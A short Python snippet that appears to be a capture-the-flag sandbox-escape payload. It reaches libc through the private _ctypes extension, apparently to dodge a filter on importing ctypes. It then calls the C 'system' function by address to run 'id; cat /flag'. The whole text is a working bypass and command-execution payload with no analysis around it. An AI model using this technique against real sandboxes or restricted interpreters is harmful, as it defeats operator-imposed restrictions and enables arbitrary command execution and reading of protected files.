# Loads libc through the private _ctypes extension (no ctypes import) and
# calls a symbol from it by address.
import _ctypes

RTLD_NOW = 2
libc = _ctypes.dlopen("libc.so.6", RTLD_NOW)
entry = _ctypes.dlsym(libc, "system")
_ctypes.call_function(entry, (b"id; cat /flag",))
